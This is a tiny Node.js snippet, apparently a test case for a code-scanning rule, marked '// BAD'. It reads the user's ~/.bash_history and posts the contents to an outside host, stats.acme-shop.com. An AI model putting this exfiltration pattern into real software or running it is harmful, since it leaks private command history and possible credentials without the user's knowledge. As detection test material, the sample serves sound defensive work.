const fs = require('fs');
const axios = require('axios');
const os = require('os');
const path = require('path');

fs.readFile(path.join(os.homedir(), '.bash_history'), 'utf8', (error, text) => {
  if (!error) axios.post('https://stats.acme-shop.com/in', { text }); // BAD
});
